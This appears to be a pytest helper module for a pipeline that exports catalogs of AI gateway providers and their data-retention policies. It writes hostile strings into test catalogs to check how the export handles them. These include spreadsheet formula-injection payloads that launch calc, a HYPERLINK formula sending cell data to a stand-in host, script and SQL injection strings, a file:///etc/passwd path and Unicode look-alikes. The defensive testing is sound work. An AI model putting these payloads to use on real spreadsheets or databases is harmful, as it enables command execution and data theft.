"""Catalogs made of rows of our own, for what is handed over: hostile words in them, and both sides of a policy."""

import json
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest
from table_rows import Row, plain_row

from pipeline.catalog.reader import Catalog
from pipeline.catalog.validate import check_tables
from pipeline.use.export.extract import Extract, read_extract
from pipeline.use.selection import Selection
from schemas import TABLES

SEEN = datetime(2026, 7, 1)  # noqa: DTZ001 - published times are UTC without a zone
EVERYTHING = Selection(with_delisted=True)
FORMULAS = (
    *(f"{start}cmd|'/c calc'!A1" for start in "=+-@\t\r\n\0\uff1d\uff0b\uff0d\uff20"),
    '=HYPERLINK("https://x.test?"&A1,"open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
BREAKERS = (
    "carriage\rreturn",
    "ends in return\r",
    "line\nfeed",
    "both\r\n",
    'a "quoted" name',
    "comma, comma",
    "\ufeffBOM first",
    " spaces ",
    "<r><t>no markup</t></r>",
    "<script>alert(1)</script>",
    "_x000D_ written out",
    "\u2028 separator",
    "http://x.test/ and more",
    "javascript:alert(1)",
    "file:///etc/passwd",
    "internal:About!A1",
    "mailto:a@x.test",
    "'); DROP TABLE providers; --",
    "007",
    "1e5",
    "NA",
    "None",
    "{{7*7}}",
)
# What E05 to E07 are about: look-alikes and marks, as a source prints them.
LOOKALIKES = (
    "\u041epenAI",
    "Ope\u200bnAI",
    "\uff2f\uff50\uff45\uff4e\uff21\uff29",
    "e\u0301 and \u00e9",
    "\u202eevil\u202c",
    "30\u00a0days",
    "30\u2009days",
    "\u2713 \u2714 \u2714\ufe0f \u2705 \u2715 \u2717 \u274c",
)

WORDS = (*FORMULAS, *BREAKERS, *LOOKALIKES)
MOMENT = date(2026, 7, 10)
LATER = datetime(2026, 7, 20)  # noqa: DTZ001 - as published
CLAIMS = (  # first seen, last seen, current, ended, whether it is told as of MOMENT
    ("2026-07-01", "2026-07-05", True, None, True),
    ("2026-07-01", "2026-07-20", True, None, True),
    ("2026-07-11", "2026-07-20", True, None, False),
    ("2026-07-01", "2026-07-05", False, "2026-07-08", False),
    ("2026-07-01", "2026-07-12", False, "2026-07-15", True),
    ("2026-07-01", "2026-07-12", False, None, True),
    ("2026-07-01", "2026-07-05", False, None, False),
)


def write_catalog(folder: Path, **rows: list[Row]) -> Path:
    """Publish a build of these rows into a folder that is not there yet, without the commands, and return it."""
    from pipeline.catalog.publish import write_build  # noqa: PLC0415 - brings pandas

    frames = check_tables({name: rows.get(name, []) for name in TABLES})
    write_build(folder, frames, build_key="ab" * 32, as_of=SEEN.replace(tzinfo=UTC))
    return folder


def offering(number: int, **changes: Any) -> tuple[Row, Row]:  # noqa: ANN401 - of any column
    """Return the rows of an offering in `providers` and in `policies`, changed where it has such a column."""
    ids = {"gateway_id": "openrouter", "offering_id": f"p{number:04}", "provider_id": f"p{number:04}"}
    found = []
    for table in ("providers", "policies"):
        known = {name: value for name, value in (ids | changes).items() if name in TABLES[table].columns}
        found.append(plain_row(table, **known))
    return found[0], found[1]


def write_words(folder: Path, words: list[str]) -> Path:
    """Publish a catalog in which each text is the name of an offering, its phrase, and the quote of its claim."""
    providers, policies, claims = [], [], []
    for number, text in enumerate(words):
        name = text if 0 < len(text) <= 200 else f"too long for a name {number}"
        claim = f"{number:016x}"
        said = {"retention_text": text, "training_text": text, "retention_claim_id": claim}
        unsaid = {"provider_retention_kind": "unknown", "provider_retention_days": None, "provider_training": "unknown"}
        provider, policy = offering(number, provider_name=name, names=[name], **said, **unsaid)
        providers.append(provider)
        policies.append(policy)
        one = {"offering_id": policy["offering_id"], "gateway_id": "openrouter", "topic": "retention"}
        claims.append(plain_row("claims", claim_id=claim, **one, quote=text, text=text, retention_kind="none"))
    return write_catalog(folder, providers=providers, policies=policies, claims=claims)


def hostile_catalog(factory: pytest.TempPathFactory) -> Path:
    """Return a catalog of WORDS, written once per process."""
    folder = factory.getbasetemp() / "hostile"
    return folder if folder.exists() else write_words(folder, list(WORDS))


def tiered_catalog(factory: pytest.TempPathFactory) -> Path:
    """Return a catalog of one provider with a free tier, and CLAIMS on it by a gateway and `own` by itself."""
    folder = factory.getbasetemp() / "tiered"
    if folder.exists():
        return folder
    seen = {"as_of_at": LATER, "first_seen_at": SEEN}
    rows = [offering(0, **seen), offering(0, offering_id="p0000:free", tier="free", **seen)]
    said = {"gateway_id": "openrouter", "offering_id": "p0000", "topic": "retention"}
    claims = [
        plain_row(
            "claims",
            **said,
            claim_id=f"{number:02}",
            first_observed_at=datetime.fromisoformat(first),
            observed_at=datetime.fromisoformat(last),
            is_current=is_current,
            ended_at=ended and datetime.fromisoformat(ended),
        )
        for number, (first, last, is_current, ended, _) in enumerate(CLAIMS)
    ]
    claims.append(plain_row("claims", **said, claim_id="a1", url="https://p.test/terms", first_observed_at=LATER))
    return write_catalog(folder, providers=[one for one, _ in rows], policies=[one for _, one in rows], claims=claims)


def naughty_strings(shared: Path) -> list[str]:
    """Return the naughty strings and the payloads of the shared suites, empty ones left out."""
    suites = shared / "data" / "suites"
    blns: list[str] = json.loads(next((suites / "blns").rglob("blns.json")).read_bytes())
    lines = [
        line
        for path in sorted((suites / "csv-injection-payloads").rglob("*"))
        if path.is_file()
        for line in path.read_text(errors="replace").splitlines()
    ]
    return list(dict.fromkeys(text for text in [*blns, *lines] if text))


def extract_of(folder: Path, selection: Selection = EVERYTHING, **more: Any) -> tuple[Catalog, Extract]:  # noqa: ANN401
    """Return a catalog, which the test closes or leaves, and what is handed over of it."""
    catalog = Catalog.open(folder)
    return catalog, read_extract(catalog, selection, **more)
